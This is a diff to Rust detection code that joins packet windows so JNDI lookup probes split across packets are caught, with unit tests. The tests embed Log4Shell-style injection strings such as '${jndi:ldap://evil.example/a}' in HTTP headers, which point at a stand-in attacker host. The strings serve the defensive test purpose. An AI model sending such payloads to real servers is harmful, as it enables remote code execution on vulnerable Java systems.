@@ -5,11 +5,13 @@
 //!   obfuscated. The kernel only forwards samples that contain the start of a lookup
 //!   (`${`, `%24`, `\u0024`); `protocols::jndi` decides. Probes are everywhere on the
 //!   internet: this alone is noise-level, and becomes evidence when the same JVM then
-//!   reaches out (see `correlate`).
+//!   reaches out (see `correlate`). The kernel sends windows around each lookup start of a
+//!   request head, over all its packets; consecutive windows of one request are joined here
+//!   ([`Windows`]), so a lookup split over two packets (or longer than a window) is whole.
 //! - `jvm_class_download` (critical): Java class bytes arrived on a connection the JVM (or
 //!   a descendant) made — in an HTTP response or raw: the class a JNDI reference names.
 
-use std::collections::HashSet;
+use std::collections::{HashMap, HashSet};
 
 use super::{jvm_name, Detection, Network};
 use crate::{
@@ -22,9 +24,80 @@ use crate::{
 /// Entries remembered for de-duplication, at most (then the memory starts over).
 const MAX_REMEMBERED: usize = 65_536;
 
+/// Bytes of a request kept for joining with the next window, at most: a lookup longer than
+/// this is judged in parts.
+const MAX_JOINED: usize = 4096;
+
+/// The last window of each connection's current request, to join the next one with.
+#[derive(Debug, Default)]
+pub struct Windows {
+    by_cookie: HashMap<u64, Window>,
+}
+
+/// Bytes of a request head, from `offset`.
+#[derive(Debug)]
+struct Window {
+    request: u32,
+    offset: u32,
+    bytes: Vec<u8>,
+}
+
+impl Windows {
+    /// The text to judge for this sample and where it starts in its request head: the
+    /// sample joined to the previous window of the same request when the two touch or
+    /// overlap, else the sample alone. Remembers the result for the next window.
+    pub fn join(&mut self, i: &Inbound) -> (&[u8], u32) {
+        if self.by_cookie.len() >= MAX_REMEMBERED && !self.by_cookie.contains_key(&i.cookie) {
+            self.by_cookie.clear();
+        }
+        let window = self.by_cookie.entry(i.cookie).or_insert(Window {
+            request: i.request,
+            offset: i.offset,
+            bytes: Vec::new(),
+        });
+        let end = window.offset as usize + window.bytes.len();
+        let start = i.offset as usize;
+        let sample_end = start + i.sample.len();
+        if window.request == i.request && start >= window.offset as usize && start <= end {
+            if sample_end > end {
+                window.bytes.extend_from_slice(&i.sample[end - start..]);
+            }
+        } else {
+            window.request = i.request;
+            window.offset = i.offset;
+            window.bytes.clear();
+            window.bytes.extend_from_slice(&i.sample);
+        }
+        if window.bytes.len() > MAX_JOINED {
+            let drop = window.bytes.len() - MAX_JOINED;
+            window.bytes.drain(..drop);
+            window.offset += drop as u32;
+        }
+        (&window.bytes, window.offset)
+    }
+}
+
+/// The lookups in `text`, the joined windows of a request from `offset` in its head. When
+/// the last window was `cut` (it stops at the end of a packet inside the head), a lookup
+/// still open at the end may go on in the next packet: it is left for the join with that
+/// packet's window.
+pub fn find_jndi_in(text: &[u8], offset: u32, cut: bool) -> Vec<jndi::JndiFinding> {
+    let mut findings = if offset == 0 {
+        jndi::find_jndi(text)
+    } else {
+        jndi::find_jndi_in_head(text)
+    };
+    if cut {
+        findings.retain(|f| f.raw.ends_with('}'));
+    }
+    findings
+}
+
 /// What the inbound rules remember between events.
 #[derive(Debug, Default)]
 pub struct InboundState {
+    /// The windows of each connection's current request.
+    windows: Windows,
     /// (JVM, normalised lookup) already reported: a scanner repeating its probe is one alert.
     probes: HashSet<(ProcessKey, String)>,
     /// (JVM, connection) already reported for class bytes.
@@ -145,9 +218,14 @@ fn class_download(
 }
 
 fn probe(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<Detection> {
-    let findings = jndi::find_jndi(&i.sample);
-    let finding = findings.first()?;
-    let Some(jvm) = table.jvms_in_cgroup(i.cgroup_id).first().map(|p| p.key) else {
+    let (text, offset) = state.windows.join(i);
+    let findings = find_jndi_in(text, offset, i.cut);
+    // The first lookup not yet reported (a joined text repeats the ones reported before).
+    let jvm = table.jvms_in_cgroup(i.cgroup_id).first().map(|p| p.key);
+    let finding = findings
+        .iter()
+        .find(|f| jvm.is_none_or(|jvm| !state.probes.contains(&(jvm, f.normalized.clone()))))?;
+    let Some(jvm) = jvm else {
         state.unattributed += 1;
         return None;
     };
@@ -182,4 +260,95 @@ fn probe(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<
         )),
         incident_id: String::new(),
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn sample(cookie: u64, request: u32, offset: u32, bytes: &[u8], cut: bool) -> Inbound {
+        Inbound {
+            time_ns: 0,
+            kind: InboundKind::Probe,
+            lineage: None,
+            tgid: 0,
+            cgroup_id: 1,
+            cookie,
+            remote: std::net::IpAddr::V4(std::net::Ipv4Addr::LOCALHOST),
+            remote_port: 40000,
+            local_port: 8080,
+            blocked: false,
+            match_at: 0,
+            offset,
+            request,
+            cut,
+            continued: !cut && offset > 0,
+            sample: bytes.to_vec(),
+        }
+    }
+
+    fn targets(text: &[u8], offset: u32, cut: bool) -> Vec<String> {
+        find_jndi_in(text, offset, cut)
+            .into_iter()
+            .map(|f| f.normalized)
+            .collect()
+    }
+
+    #[test]
+    fn a_lookup_split_over_two_packets_is_found_in_the_join_only() {
+        let mut windows = Windows::default();
+        let head = b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ld";
+        let first = sample(7, 0, 0, head, true);
+        let (text, offset) = windows.join(&first);
+        assert!(
+            targets(text, offset, true).is_empty(),
+            "an open lookup at a cut waits for the next packet"
+        );
+        let rest = b"ap://evil.example/a}\r\n\r\n";
+        let second = sample(7, 0, head.len() as u32, rest, false);
+        let (text, offset) = windows.join(&second);
+        assert_eq!(offset, 0);
+        assert_eq!(
+            targets(text, offset, false),
+            ["${jndi:ldap://evil.example/a}"]
+        );
+    }
+
+    #[test]
+    fn overlapping_windows_join_without_repeating_bytes() {
+        let mut windows = Windows::default();
+        let _ = windows.join(&sample(1, 0, 100, b"abcdef", false));
+        let (text, offset) = windows.join(&sample(1, 0, 103, b"defghi", false));
+        assert_eq!((text, offset), (&b"abcdefghi"[..], 100));
+        // A gap, another request, another connection: no join.
+        let (text, _) = windows.join(&sample(1, 0, 200, b"xyz", false));
+        assert_eq!(text, b"xyz");
+        let (text, _) = windows.join(&sample(1, 1, 203, b"123", false));
+        assert_eq!(text, b"123");
+        let (text, _) = windows.join(&sample(2, 1, 206, b"456", false));
+        assert_eq!(text, b"456");
+    }
+
+    #[test]
+    fn joined_text_is_bounded() {
+        let mut windows = Windows::default();
+        let chunk = [b'a'; 512];
+        let mut offset = 0;
+        for _ in 0..20 {
+            let _ = windows.join(&sample(3, 0, offset, &chunk, false));
+            offset += 448;
+        }
+        let (text, start) = windows.join(&sample(3, 0, offset, &chunk, false));
+        assert_eq!(text.len(), MAX_JOINED);
+        assert_eq!(start as usize + text.len(), offset as usize + chunk.len());
+    }
+
+    #[test]
+    fn a_window_from_inside_a_head_is_located_by_header() {
+        let window =
+            b"ml,application/xhtml\r\nX-Api-Version: ${jndi:ldap://evil.example/a}\r\n\r\n";
+        let findings = find_jndi_in(window, 12_345, false);
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].location, "header:X-Api-Version");
+    }
 }
